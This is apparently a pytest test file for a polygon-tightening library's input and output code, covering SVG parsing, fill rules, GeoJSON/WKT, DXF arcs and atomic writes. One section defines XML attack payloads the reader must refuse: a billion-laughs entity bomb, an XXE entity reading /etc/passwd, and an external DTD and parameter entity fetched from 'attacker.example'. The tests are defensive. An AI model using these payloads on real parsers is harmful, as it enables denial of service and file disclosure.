"""Reading and writing files: SVG features and fill rules, refused SVGs, round trips, DXF arcs, atomic writes."""

import json
import math
import re
import sys

import numpy as np
import pytest
import shapely
from shapely.geometry import Point, Polygon, box

from vectortighten import io, tighten
from vectortighten.errors import GeometryTypeError, InvalidGeometryError

pytest.importorskip("svgelements")
pytest.importorskip("defusedxml")

SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'


def svg(body: str, attrs: str = 'viewBox="0 0 100 100"') -> bytes:
    return f'<svg {SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink" {attrs}>{body}</svg>'.encode()


def flip(geom):
    """SVG coordinates (y down) as read_svg returns them (y up)."""
    return shapely.transform(geom, lambda xy: xy * [1.0, -1.0])


def same(a, b, tol):
    """a and b differ by at most a band of width ``tol`` along their boundaries."""
    return a.symmetric_difference(b).area <= tol * max(a.length, b.length) + 1e-12


# ---------------------------------------------------------------------------------------------------------
# Fill rules
# ---------------------------------------------------------------------------------------------------------
OUTER = [(0, 0), (10, 0), (10, 10), (0, 10)]              # counter-clockwise
INNER = [(3, 3), (7, 3), (7, 7), (3, 7)]                  # counter-clockwise too


@pytest.mark.parametrize("inner, rule, area", [
    (INNER, "nonzero", 100.0),              # same direction: winding 2 inside, filled
    (INNER[::-1], "nonzero", 84.0),         # opposite direction: winding 0, a hole
    (INNER, "evenodd", 84.0),
    (INNER[::-1], "evenodd", 84.0),
])
def test_fill_rules_nested_rings(inner, rule, area):
    region = io.fill_rings([OUTER, inner], rule)
    assert region.is_valid and region.area == pytest.approx(area)


def test_fill_rules_self_intersecting_star():
    star = [(math.cos(math.pi / 2 + k * 4 * math.pi / 5), math.sin(math.pi / 2 + k * 4 * math.pi / 5))
            for k in range(5)]
    nonzero = io.fill_rings([star], "nonzero")
    evenodd = io.fill_rings([star], "evenodd")
    # The pentagram's centre pentagon winds twice: filled by nonzero, empty by evenodd.
    assert nonzero.contains(Point(0, 0)) and not evenodd.contains(Point(0, 0))
    assert nonzero.is_valid and evenodd.is_valid
    assert evenodd.area < nonzero.area
    assert nonzero.difference(evenodd).area == pytest.approx(nonzero.area - evenodd.area)


def test_fill_rules_overlapping_rings():
    a = [(0, 0), (4, 0), (4, 4), (0, 4)]
    b = [(2, 2), (6, 2), (6, 6), (2, 6)]
    assert io.fill_rings([a, b], "nonzero").area == pytest.approx(28.0)
    assert io.fill_rings([a, b], "evenodd").area == pytest.approx(24.0)       # the overlap cancels
    assert io.fill_rings([a, b[::-1]], "nonzero").area == pytest.approx(24.0)  # +1 − 1 = 0 there


# ---------------------------------------------------------------------------------------------------------
# SVG features
# ---------------------------------------------------------------------------------------------------------
def test_svg_nested_group_transforms():
    doc = svg('<g transform="translate(10 20)"><g transform="rotate(90)">'
              '<rect x="0" y="0" width="4" height="2" transform="scale(2 1)"/></g></g>')
    got = io.read_svg(doc)
    # scale → 8×2 rect, rotate 90° → x in [−2, 0], y in [0, 8], translate → [8, 10] × [20, 28]
    assert same(got, flip(box(8, 20, 10, 28)), 1e-9)


def test_svg_viewbox_units_are_user_units():
    doc = svg('<rect x="1" y="2" width="3" height="4"/>', 'width="100mm" height="50mm" viewBox="0 0 200 100"')
    assert same(io.read_svg(doc), flip(box(1, 2, 4, 6)), 1e-9)


def test_svg_path_with_arcs_and_curves():
    # A half disk of radius 5 (two arcs of a quarter each), then a quadratic and a cubic closing lines.
    doc = svg('<path d="M 0 10 A 5 5 0 0 1 5 5 a 5 5 0 0 1 5 5 Z"/>')
    got = io.read_svg(doc, flatten=1e-4)
    half = Point(5, 10).buffer(5, quad_segs=512).intersection(box(0, 0, 10, 10))
    assert same(got, flip(half), 2e-4)
    doc = svg('<path d="M 0 0 Q 5 10 10 0 C 10 -5 0 -5 0 0 Z"/>')
    got = io.read_svg(doc, flatten=1e-5)
    # The same curves sampled densely here, from their Bernstein forms.
    t = np.linspace(0, 1, 20001)[:, None]
    quad = (1 - t) ** 2 * [0, 0] + 2 * t * (1 - t) * [5, 10] + t ** 2 * [10, 0]
    cubic = (1 - t) ** 3 * [10, 0] + 3 * t * (1 - t) ** 2 * [10, -5] + 3 * t ** 2 * (1 - t) * [0, -5] \
        + t ** 3 * [0, 0]
    assert same(got, flip(Polygon(np.vstack([quad, cubic]))), 2e-5)


@pytest.mark.parametrize("flatten", [1e-2, 1e-3])
def test_svg_circle_flattened_within_tolerance(flatten):
    got = io.read_svg(svg('<circle cx="50" cy="40" r="20"/>'), flatten=flatten)
    ring = np.asarray(got.exterior.coords)
    d = np.hypot(ring[:, 0] - 50, ring[:, 1] + 40)
    assert np.allclose(d, 20)                                   # vertices on the circle
    exact = Point(50, -40).buffer(20, quad_segs=1024)
    assert exact.hausdorff_distance(got) <= flatten * 1.01      # chords within the tolerance
    assert exact.hausdorff_distance(got) > flatten / 10         # ... and not needlessly fine


def test_svg_default_flatten_is_relative_to_the_drawing():
    small = io.read_svg(svg('<circle cx="5" cy="5" r="2"/>'))
    big = io.read_svg(svg('<circle cx="500" cy="500" r="200"/>', 'viewBox="0 0 1000 1000"'))
    assert len(small.exterior.coords) == len(big.exterior.coords)
    err = Point(5, -5).buffer(2, quad_segs=1024).hausdorff_distance(small)
    assert err <= io.DEFAULT_FLATTEN * math.hypot(4, 4) * 1.01


def test_svg_rect_with_rounded_corners():
    got = io.read_svg(svg('<rect x="0" y="0" width="20" height="10" rx="3"/>'), flatten=1e-5)
    assert got.area == pytest.approx(200 - (4 - math.pi) * 9, rel=1e-5)


def test_svg_ellipse_under_skew_keeps_its_area():
    # Skew preserves area; svgelements' own reified arcs get skewed ellipses wrong, so the reader samples
    # the ellipse in its own frame and maps the points.
    doc = svg('<ellipse cx="0" cy="0" rx="4" ry="1" transform="translate(50 50) skewX(30)"/>')
    got = io.read_svg(doc, flatten=1e-5)
    assert got.area == pytest.approx(4 * math.pi, rel=1e-4)
    assert got.contains(Point(50 + math.tan(math.pi / 6) * 0.9, -50.9))   # a point near the skewed top


def test_svg_polygon_polyline_and_several_shapes():
    doc = svg('<polygon points="0,0 10,0 10,10"/><polyline points="20,0 30,0 30,10"/>'
              '<line x1="0" y1="50" x2="50" y2="50"/>')
    got = io.read_svg(doc)
    assert got.geom_type == "MultiPolygon" and got.area == pytest.approx(100.0)


@pytest.mark.parametrize("rule, inner, area", [
    ("evenodd", "M 3 3 H 7 V 7 H 3 Z", 84.0),
    ("evenodd", "M 3 3 V 7 H 7 V 3 Z", 84.0),
    ("nonzero", "M 3 3 H 7 V 7 H 3 Z", 100.0),   # same direction as the outer ring: no hole
    ("nonzero", "M 3 3 V 7 H 7 V 3 Z", 84.0),    # opposite direction: a hole
])
def test_svg_holes_by_fill_rule(rule, inner, area):
    doc = svg(f'<path fill-rule="{rule}" d="M 0 0 H 10 V 10 H 0 Z {inner}"/>')
    got = io.read_svg(doc)
    assert got.area == pytest.approx(area)
    assert len(got.interiors) == (1 if area < 100 else 0)


def test_svg_fill_rule_inherited_and_from_style():
    body = "M 0 0 H 10 V 10 H 0 Z M 3 3 H 7 V 7 H 3 Z"
    assert io.read_svg(svg(f'<g fill-rule="evenodd"><path d="{body}"/></g>')).area == pytest.approx(84)
    assert io.read_svg(svg(f'<path style="fill-rule:evenodd" d="{body}"/>')).area == pytest.approx(84)
    assert io.read_svg(svg(f'<g fill-rule="evenodd"><path fill-rule="nonzero" d="{body}"/></g>')).area \
        == pytest.approx(100)


def test_svg_use_symbol_defs_and_hidden():
    doc = svg('<defs><rect id="sq" width="2" height="2"/></defs>'
              '<symbol id="sym"><rect width="3" height="3"/></symbol>'
              '<mask id="m"><rect width="90" height="90"/></mask>'
              '<use xlink:href="#sq" x="10" y="10"/><use href="#sym" x="20" y="20"/>'
              '<circle cx="50" cy="50" r="30" style="display:none"/>')
    got = io.read_svg(doc)
    assert same(got, flip(box(10, 10, 12, 12).union(box(20, 20, 23, 23))), 1e-9)


def test_svg_nested_svg_viewport():
    doc = svg('<svg x="10" y="10" width="20" height="20" viewBox="0 0 2 2"><rect width="1" height="1"/>'
              '<circle cx="1.5" cy="1.5" r="0.25"/></svg>')
    got = io.read_svg(doc, flatten=1e-4)
    assert same(got, flip(box(10, 10, 20, 20).union(Point(25, 25).buffer(2.5, quad_segs=256))), 1e-4)


def test_svg_text_is_ignored_with_a_warning():
    with pytest.warns(UserWarning, match="text"):
        got = io.read_svg(svg('<rect width="2" height="2"/><text x="5" y="5">hi</text>'))
    assert got.area == pytest.approx(4)


def test_svg_w3c_doctype_accepted():
    doc = (b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
           b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' + svg('<rect width="2" height="2"/>'))
    assert io.read_svg(doc).area == pytest.approx(4)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><rect width="2" height="2"/><text>&lol9;</text></svg>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><rect width="2" height="2"/><text>&xxe;</text></svg>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE svg SYSTEM "http://attacker.example/evil.dtd">
<svg xmlns="http://www.w3.org/2000/svg"><rect width="2" height="2"/></svg>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"><rect width="2" height="2"/></svg>
"""


@pytest.mark.parametrize("doc, needle", [
    (BILLION_LAUGHS, "entity"),
    (XXE, "external entity"),
    (EXTERNAL_DTD, "external DTD"),
    (PARAMETER_ENTITY, "entity"),
])
def test_svg_attacks_refused(doc, needle):
    with pytest.raises(InvalidGeometryError, match="refused") as exc:
        io.read_svg(doc)
    assert needle.lower() in str(exc.value).lower()


@pytest.mark.parametrize("doc, needle", [
    (b"<svg><rect width='1'", "malformed SVG"),
    (b"", "malformed SVG"),
    (b"<html><body/></html>", "not <svg>"),
    (svg('<path d="M 0 0 L 10 zz 5"/>'), "bad path data"),
    (svg('<polygon points="0,0 NaN,1 2,2"/>'), "NaN"),
    (svg('<circle cx="1" cy="inf" r="1"/>'), "NaN or infinite"),
    (svg('<rect width="2" height="2" transform="scale(nan)"/>'), "NaN"),
    (svg('<path d="M 0 0 L 1e400 1 L 2 2 Z"/>'), "infinite"),
    (svg(""), "no shapes"),
    (svg("<g>" * 3000 + '<rect width="1" height="1"/>' + "</g>" * 3000), "nested too deeply"),
    (svg('<path d="M 0 0 L 10 0"/>'), "no closed shape"),
])
def test_svg_malformed(doc, needle):
    with pytest.raises(InvalidGeometryError, match=re.escape(needle)):
        io.read_svg(doc)


def test_missing_optional_dependency_names_the_extra(monkeypatch, tmp_path):
    monkeypatch.setitem(sys.modules, "svgelements", None)       # import svgelements raises ImportError
    p = tmp_path / "x.svg"
    p.write_bytes(svg('<rect width="2" height="2"/>'))
    with pytest.raises(io.MissingDependencyError, match=re.escape("pip install vectortighten[svg]")):
        io.read_shape(p)


def test_missing_ezdxf_names_the_extra(monkeypatch, tmp_path):
    monkeypatch.setitem(sys.modules, "ezdxf", None)
    T = tighten(box(0, 0, 4, 4), 1.0)
    with pytest.raises(io.MissingDependencyError, match=re.escape("pip install vectortighten[dxf]")):
        io.write_result(T, tmp_path / "x.dxf")
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------------------------------------------------
# WKT and GeoJSON
# ---------------------------------------------------------------------------------------------------------
SQUARE = {"type": "Polygon", "coordinates": [[[0, 0], [4, 0], [4, 4], [0, 4], [0, 0]]]}
OTHER = {"type": "Polygon", "coordinates": [[[10, 0], [12, 0], [12, 2], [10, 2], [10, 0]]]}


@pytest.mark.parametrize("data, area", [
    (SQUARE, 16.0),
    ({"type": "Feature", "geometry": SQUARE, "properties": {}}, 16.0),
    ({"type": "FeatureCollection", "features": [
        {"type": "Feature", "geometry": SQUARE, "properties": {}},
        {"type": "Feature", "geometry": None, "properties": {}},
        {"type": "Feature", "geometry": OTHER, "properties": {}}]}, 20.0),
])
def test_geojson_kinds(data, area, tmp_path):
    p = tmp_path / "s.geojson"
    p.write_text(json.dumps(data))
    assert io.read_shape(p).area == pytest.approx(area)


@pytest.mark.parametrize("name, text, error, needle", [
    ("a.geojson", "{not json", InvalidGeometryError, "malformed GeoJSON"),
    ("a.geojson", '{"type": "Polygon", "coordinates": "x"}', InvalidGeometryError, "malformed GeoJSON"),
    ("a.geojson", '{"type": "FeatureCollection"}', InvalidGeometryError, "malformed GeoJSON"),
    ("a.geojson", '{"type": "FeatureCollection", "features": []}', InvalidGeometryError, "no geometry"),
    ("a.geojson", '{"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [NaN, 1], [0, 0]]]}',
     InvalidGeometryError, "NaN"),
    ("a.geojson", '{"type": "Point", "coordinates": [0, 0]}', GeometryTypeError, "no polygons"),
    ("a.wkt", "POLYGON ((0 0, 1 0", InvalidGeometryError, "malformed WKT"),
    ("a.wkt", "", InvalidGeometryError, "malformed WKT"),
    ("a.wkt", "POLYGON ((0 0, 1 0, NaN 1, 0 0))", InvalidGeometryError, "NaN"),
    ("a.wkt", "POLYGON EMPTY", InvalidGeometryError, "empty"),
    ("a.txt", "POLYGON EMPTY", ValueError, "unsupported input format"),
])
def test_malformed_wkt_geojson(name, text, error, needle, tmp_path):
    p = tmp_path / name
    p.write_text(text)
    with pytest.raises(error, match=re.escape(needle)):
        io.read_shape(p)


def test_binary_garbage_is_malformed(tmp_path):
    p = tmp_path / "a.wkt"
    p.write_bytes(b"\xff\xfe\x00garbage")
    with pytest.raises(InvalidGeometryError, match="not UTF-8"):
        io.read_shape(p)


# ---------------------------------------------------------------------------------------------------------
# Writing and round trips
# ---------------------------------------------------------------------------------------------------------
R = 1.5
DRAWING = svg('<g transform="translate(5 5)"><path fill-rule="evenodd" '
              'd="M 0 0 H 40 V 10 H 20 V 30 H 0 Z M 5 5 H 10 V 20 H 5 Z"/></g>'
              '<circle cx="52" cy="32" r="6"/>', 'viewBox="0 0 60 40"')


@pytest.fixture(scope="module")
def tightening():
    return tighten(io.read_svg(DRAWING), R)


A_CMD = re.compile(r"A (\S+) (\S+) (\S+) ([01]) ([01]) (\S+) (\S+)")


def test_svg_round_trip(tightening, tmp_path):
    T = tightening
    out = tmp_path / "t.svg"
    io.write_result(T, out)
    text = out.read_text()
    arcs = A_CMD.findall(text)
    assert arcs and all(float(rx) == R and float(ry) == R for rx, ry, *_ in arcs)   # radius exactly r
    assert 'fill-rule="evenodd"' in text
    flatten = 1e-4
    back = io.read_svg(out, flatten=flatten)
    assert back.area == pytest.approx(T.area, abs=T.perimeter * flatten)
    assert T.geometry.symmetric_difference(back).area <= T.perimeter * (flatten + T.tolerance)
    assert back.bounds == pytest.approx(T.geometry.bounds, abs=2 * flatten)
    assert (len(back.geoms) if hasattr(back, "geoms") else 1) == T.n_components


def test_svg_arcs_turn_the_right_way(tmp_path):
    # A square's tightening: four convex quarter arcs (counter-clockwise with y up); an L-shaped hole
    # through a box: its reflex corner gives a clockwise arc on the hole. Reading the file back with
    # svgelements gives arcs whose midpoints lie where the exact ones do.
    import svgelements as se

    S = box(0, 0, 20, 20).difference(Polygon([(5, 5), (15, 5), (15, 10), (10, 10), (10, 15), (5, 15)]))
    T = tighten(S, 1.0)
    out = tmp_path / "t.svg"
    io.write_result(T, out)
    exact = [a for lp in T.loops for a in lp.arcs]
    d = re.search(r'id="tightening" d="([^"]+)"', out.read_text()).group(1)
    read = [s for s in se.Path(d) if isinstance(s, se.Arc)]
    assert len(read) == len(exact)
    for a, s in zip(exact, read):
        mid = s.point(0.5)
        assert (mid.x, -mid.y) == pytest.approx(a.point_at(0.5), abs=1e-9)
        assert s.rx == pytest.approx(1.0) and s.ry == pytest.approx(1.0)


def test_svg_layers_and_read_back_skips_them(tightening, tmp_path):
    out = tmp_path / "t.svg"
    io.write_result(tightening, out, layers=("input", "core", "mortar"))
    text = out.read_text()
    for name in ("input", "core", "mortar"):
        assert f'id="{name}"' in text and 'inkscape:groupmode="layer"' in text
    back = io.read_svg(out, flatten=1e-4)
    assert back.area == pytest.approx(tightening.area, abs=tightening.perimeter * 1e-4)
    with pytest.raises(ValueError, match="unknown layer"):
        io.write_result(tightening, out, layers=("nope",))


def test_svg_viewbox_frames_the_shape_y_flipped(tightening, tmp_path):
    out = tmp_path / "t.svg"
    io.write_result(tightening, out)
    vb = [float(v) for v in re.search(r'viewBox="([^"]+)"', out.read_text()).group(1).split()]
    x0, y0, x1, y1 = tightening.geometry.bounds
    assert vb[0] < x0 and vb[0] + vb[2] > x1
    assert vb[1] < -y1 and vb[1] + vb[3] > -y0


def _dxf_chain(path):
    import ezdxf

    doc = ezdxf.readfile(path)
    ends, radii, length = [], [], 0.0
    for e in doc.modelspace().query("LINE ARC CIRCLE"):
        if e.dxftype() == "LINE":
            a, b = np.array(e.dxf.start)[:2], np.array(e.dxf.end)[:2]
            ends.append((a, b))
            length += float(np.hypot(*(b - a)))
        elif e.dxftype() == "ARC":
            radii.append(e.dxf.radius)
            ends.append((np.array(e.start_point)[:2], np.array(e.end_point)[:2]))
            sweep = (e.dxf.end_angle - e.dxf.start_angle) % 360.0
            length += math.radians(sweep) * e.dxf.radius
        else:
            radii.append(e.dxf.radius)
            length += 2 * math.pi * e.dxf.radius
    return doc, ends, radii, length


def _count_cycles(ends, atol):
    """Number of closed chains the pieces form, checking every end point meets exactly one other."""
    pts = np.array([p for ab in ends for p in ab])
    n = len(ends)
    partner = {}
    for i in range(2 * n):
        d = np.hypot(*(pts - pts[i]).T)
        d[i] = np.inf
        d[i ^ 1] = np.inf                     # the other end of the same piece
        close = np.flatnonzero(d <= atol)
        assert len(close) == 1, f"end point {pts[i]} meets {len(close)} other ends"
        partner[i] = int(close[0])
    seen, cycles = set(), 0
    for start in range(n):
        if start in seen:
            continue
        cycles += 1
        k = start
        end = 2 * k + 1
        while k not in seen:
            seen.add(k)
            nxt = partner[end]
            k = nxt // 2
            end = nxt ^ 1
    return cycles


def test_dxf_arcs_of_radius_r_in_closed_chains(tightening, tmp_path):
    pytest.importorskip("ezdxf")
    out = tmp_path / "t.dxf"
    io.write_result(tightening, out)
    doc, ends, radii, length = _dxf_chain(out)
    assert radii and all(r == R for r in radii)
    assert length == pytest.approx(tightening.perimeter, rel=1e-9)
    assert _count_cycles(ends, 1e-9 * 60) == len(tightening.loops)
    assert {e.dxf.layer for e in doc.modelspace()} == {"TIGHTENING"}
    auditor = doc.audit()
    assert not auditor.has_errors


def test_dxf_clockwise_arcs(tmp_path):
    # A hole's reflex corners and a notch give clockwise arcs: written from end to start, counter-clockwise.
    pytest.importorskip("ezdxf")
    S = box(0, 0, 20, 20).difference(box(8, 8, 12, 12)).difference(box(9, 17, 11, 21))
    T = tighten(S, 0.8, init="input")
    assert any(a.sweep < 0 for lp in T.loops for a in lp.arcs)
    out = tmp_path / "t.dxf"
    io.write_result(T, out, layers=("input",))
    doc, ends, radii, length = _dxf_chain(out)
    assert all(r == 0.8 for r in radii)
    assert length == pytest.approx(T.perimeter, rel=1e-9)
    assert _count_cycles(ends, 1e-9 * 20) == len(T.loops)
    assert "INPUT" in {e.dxf.layer for e in doc.modelspace()}


def test_dxf_full_circle(tmp_path):
    pytest.importorskip("ezdxf")
    import ezdxf

    T = tighten(Point(0, 0).buffer(5, quad_segs=64), 0.5)
    out = tmp_path / "c.dxf"
    io.write_result(T, out)
    kinds = [e.dxftype() for e in ezdxf.readfile(out).modelspace()]
    assert kinds and set(kinds) <= {"LINE", "ARC", "CIRCLE"}


def test_wkt_geojson_png_outputs(tightening, tmp_path):
    io.write_result(tightening, tmp_path / "t.wkt")
    assert shapely.from_wkt((tmp_path / "t.wkt").read_text()).equals_exact(tightening.geometry, 0)
    io.write_result(tightening, tmp_path / "t.geojson")
    back = io.read_shape(tmp_path / "t.geojson")
    assert back.symmetric_difference(tightening.geometry).area < 1e-9
    io.write_result(tightening, tmp_path / "t.png", layers=("input", "core", "mortar"))
    from PIL import Image

    with Image.open(tmp_path / "t.png") as im:
        assert im.format == "PNG" and im.size[0] > 100


def test_empty_tightening_writes_empty_files(tmp_path):
    T = tighten(box(0, 0, 1, 1), 2.0)
    assert T.is_empty
    for ext in (".svg", ".wkt", ".geojson"):
        io.write_result(T, tmp_path / f"e{ext}")
    assert "EMPTY" in (tmp_path / "e.wkt").read_text()


# ---------------------------------------------------------------------------------------------------------
# Atomic writes
# ---------------------------------------------------------------------------------------------------------
def test_atomic_write_failure_leaves_old_file_and_no_temp(tmp_path):
    target = tmp_path / "out.svg"
    target.write_text("old")
    with pytest.raises(RuntimeError):
        with io.atomic_write(target) as f:
            f.write("half of the new content")
            raise RuntimeError("disk full")
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.svg"]


@pytest.mark.parametrize("ext, module, writer", [(".png", "picture", "write_picture"), (".dxf", "dxf", "write_dxf")])
def test_writer_failing_halfway(ext, module, writer, tightening, tmp_path, monkeypatch):
    target = tmp_path / f"out{ext}"
    target.write_bytes(b"old")

    def broken(result, dest, *args):
        if hasattr(dest, "write"):
            dest.write(b"partial")
        else:
            dest.write_bytes(b"partial")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(getattr(io, module), writer, broken)
    with pytest.raises(OSError):
        io.write_result(tightening, target)
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == [target.name]


def test_svg_document_failing_leaves_nothing(tightening, tmp_path, monkeypatch):
    def broken(*a, **k):
        raise MemoryError

    monkeypatch.setattr(io.svg, "svg_document", broken)
    with pytest.raises(MemoryError):
        io.write_result(tightening, tmp_path / "new.svg")
    assert list(tmp_path.iterdir()) == []


def test_output_mode_is_not_private(tightening, tmp_path):
    out = tmp_path / "t.wkt"
    io.write_result(tightening, out)
    assert out.stat().st_mode & 0o044        # readable by others, as a normal file (umask permitting)


def test_missing_output_folder(tightening, tmp_path):
    with pytest.raises(FileNotFoundError):
        io.write_result(tightening, tmp_path / "no" / "t.svg")


@pytest.mark.parametrize("attrs, unit", [
    ('width="210mm" height="297mm" viewBox="0 0 210 297"', "mm"),
    ('width="10cm" viewBox="0 0 100 50"', "mm"),
    ('width="2in" viewBox="0 0 2 1"', "in"),
    ('width="200" viewBox="0 0 200 100"', "px"),
    ('width="210mm" viewBox="0 0 793.7008 1122.5"', "px"),
    ('width="210mm" viewBox="0 0 1000 1414"', None),
    ('viewBox="0 0 10 10"', None),
    ('width="100%" viewBox="0 0 10 10"', None),
])
def test_svg_unit(attrs, unit):
    assert io.svg_unit(svg("", attrs)) == unit


def test_unit_carried_to_svg_and_dxf(tightening, tmp_path):
    io.write_result(tightening, tmp_path / "t.svg", unit="mm")
    text = (tmp_path / "t.svg").read_text()
    vb = re.search(r'viewBox="([^"]+)"', text).group(1).split()
    assert f'width="{vb[2]}mm"' in text and f'height="{vb[3]}mm"' in text
    assert io.svg_unit(tmp_path / "t.svg") == "mm"
    pytest.importorskip("ezdxf")
    import ezdxf

    io.write_result(tightening, tmp_path / "t.dxf", unit="mm")
    assert ezdxf.readfile(tmp_path / "t.dxf").header["$INSUNITS"] == 4
    with pytest.raises(ValueError, match="unknown unit"):
        io.write_result(tightening, tmp_path / "u.svg", unit="furlong")
